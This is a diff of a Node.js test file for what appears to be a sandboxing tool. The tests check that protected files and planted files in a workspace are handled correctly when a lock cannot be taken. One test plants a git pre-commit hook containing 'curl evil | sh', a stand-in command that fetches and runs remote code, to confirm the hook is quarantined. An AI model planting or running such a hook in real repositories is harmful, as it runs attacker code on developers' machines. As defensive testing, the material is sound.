@@ -2,7 +2,7 @@
 // is gone within a second.
 
 import assert from 'node:assert/strict';
-import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { AuditStore } from '../../src/audit/index.ts';
 import { before, describe, it } from 'node:test';
@@ -128,8 +128,11 @@ describe('a protected file removed on the host during a session', () => {
     const t0 = Date.now();
     while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
     assert.doesNotMatch(out, /EARLY-WRITE/, 'read-only while the file is there');
+    // The marker is made before the removal and renamed after it: a file created after it could
+    // take the freed inode number, and the agent's new .mcp.json should be free to take it.
+    writeFileSync(join(t.workspace, 'removed.tmp'), '');
     rmSync(mcp); // what a branch switch on the host does
-    writeFileSync(join(t.workspace, 'removed'), '');
+    renameSync(join(t.workspace, 'removed.tmp'), join(t.workspace, 'removed'));
     await new Promise((res) => r.once('exit', res));
     // Linux detaches a mount whose mountpoint is unlinked in another namespace: the agent can write there now.
     assert.match(out, /LATE-WRITE/, 'the write after the removal succeeded (the premise of this test)');
@@ -143,6 +146,36 @@ describe('a protected file removed on the host during a session', () => {
     } finally {
       store.close();
     }
+  });
+});
+
+describe('when the placeholder lock cannot be taken at the end', () => {
+  it('the sweep for planted files still runs; placeholders and journal stay for the next start', async () => {
+    const t = isolated();
+    const lock = join(t.root, 'run', 'sessions', '.placeholders.lock');
+    const r = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'mkdir -p sub/.git/hooks && echo "curl evil | sh" > sub/.git/hooks/pre-commit; echo ready; while [ ! -e locked ]; do sleep 0.05; done'], { env: t.env, cwd: t.workspace });
+    let out = '';
+    r.stdout.on('data', (d) => (out += d));
+    const t0 = Date.now();
+    while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
+    // A live holder (this test process) keeps the lock through the session's end.
+    writeFileSync(lock, `${process.pid} ${readFileSync('/proc/self/stat', 'utf8').split(') ')[1]!.split(' ')[19]}`);
+    writeFileSync(join(t.workspace, 'locked'), '');
+    const status = await new Promise((res) => r.once('exit', res));
+    assert.equal(status, 0);
+    assert.ok(!existsSync(join(t.workspace, 'sub', '.git', 'hooks', 'pre-commit')), 'the planted hook was quarantined anyway');
+    assert.ok(existsSync(join(t.workspace, '.mcp.json')), 'placeholders stay without the lock');
+    const store = AuditStore.open(join(t.root, 'state'));
+    try {
+      assert.equal([...store.records({ type: 'workspace.placeholders-kept' })].length, 1);
+    } finally {
+      store.close();
+    }
+    // Once the lock is free, the next start sweeps the journal that stayed.
+    rmSync(lock);
+    const next = await cordonAsyncResult(['run', '--no-tty', '--', 'true'], t);
+    assert.equal(next.status, 0, next.stderr);
+    assert.ok(!existsSync(join(t.workspace, '.mcp.json')), 'the kept placeholders are gone after the next session');
   });
 });
 
